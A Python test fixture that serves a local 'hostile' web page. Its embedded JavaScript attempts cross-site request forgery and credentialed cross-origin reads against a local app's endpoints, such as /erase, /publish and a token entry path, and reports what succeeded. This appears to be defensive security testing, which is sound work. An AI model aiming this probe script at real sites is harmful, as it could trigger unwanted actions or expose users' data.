# SPDX-License-Identifier: Apache-2.0
"""A page of somebody else: tries what a web page can try against a server on this machine."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ACTIONS = ("/save", "/forget", "/less", "/again", "/publish", "/withdraw", "/pause", "/resume",
           "/leave", "/erase", "/close")  # fmt: skip
READS = ("/", "/data", "/left", "/item?id=film-00001", "/style.css", "/icon.svg",
         "/enter?token=guess", "/enter?token=")  # fmt: skip
FIELDS = {"item": "film-00001", "stars": "1", "comment": "owned", "word": "erase",
          "form-token": "0" * 64}  # fmt: skip

SCRIPT = """
const target = %(target)s, actions = %(actions)s, reads = %(reads)s, fields = %(fields)s;
const seen = [];
const body = new URLSearchParams(fields);
async function attempt(name, run) {
  try { seen.push([name, await run()]); } catch (error) { seen.push([name, "blocked"]); }
}
const read = async (reply) => reply.type === "opaque" ? "opaque" : await reply.text();
function element(tag, set) {
  return new Promise((done) => {
    const made = document.createElement(tag);
    made.onload = () => done(tag + " loaded"); made.onerror = () => done("blocked");
    set(made); document.body.append(made); setTimeout(() => done("no answer"), 3000);
  });
}
function submit(action, method) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random(); document.body.append(frame);
    const form = document.createElement("form");
    form.action = target + action; form.method = method; form.target = frame.name;
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement("input");
      field.name = name; field.value = value; form.append(field);
    }
    document.body.append(form); frame.onload = () => {
      let inside = "hidden";
      try { inside = frame.contentDocument ? frame.contentDocument.title : "hidden"; } catch {}
      done(inside || "hidden");
    };
    form.submit(); setTimeout(() => done("hidden"), 3000);
  });
}
(async () => {
  for (const action of actions) {
    const url = target + action;
    await attempt("fetch " + action, async () => read(await fetch(url,
      {method: "POST", body, mode: "no-cors", credentials: "include"})));
    await attempt("cors " + action, async () => read(await fetch(url,
      {method: "POST", body, credentials: "include"})));
    await attempt("text " + action, async () => read(await fetch(url,
      {method: "POST", body: body.toString(), mode: "no-cors", credentials: "include"})));
    await attempt("form " + action, () => submit(action, "post"));
  }
  for (const path of reads) {
    const url = target + path;
    await attempt("read " + path, async () => read(await fetch(url, {credentials: "include"})));
    await attempt("opaque " + path, async () => read(await fetch(url,
      {mode: "no-cors", credentials: "include"})));
    await attempt("img " + path, () => element("img", (e) => { e.src = url; }));
    await attempt("script " + path, () => element("script", (e) => { e.src = url; }));
    await attempt("css " + path, () => element("link",
      (e) => { e.rel = "stylesheet"; e.href = url; }));
    await attempt("get " + path, () => submit(path, "get"));
  }
  await attempt("websocket", () => new Promise((done, fail) => {
    const socket = new WebSocket(target.replace("http", "ws") + "/data");
    socket.onopen = () => done("open"); socket.onerror = fail;
  }));
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
  document.title = "finished";
})();
"""


class Hostile:
    """What the other site learned."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.target = ""
        self.cookies: list[str] = []
        self.seen: list[tuple[str, str]] = []

    def script(self) -> str:
        parts = {"target": self.target, "actions": ACTIONS, "reads": READS, "fields": FIELDS}
        return SCRIPT % {name: json.dumps(part) for name, part in parts.items()}


@contextmanager
def hostile_site() -> Iterator[Hostile]:
    """Serve the other site on a port of this machine: the worst neighbour a page can have."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.cookies.append(self.headers.get("Cookie", ""))
            page = f"<!doctype html><title>busy</title><body><script>{site.script()}</script>"
            self._answer(page.encode())

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            site.seen += [tuple(pair) for pair in json.loads(body)]
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Keep the tests' output clean."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site = Hostile(server.server_address[1])
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield site
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
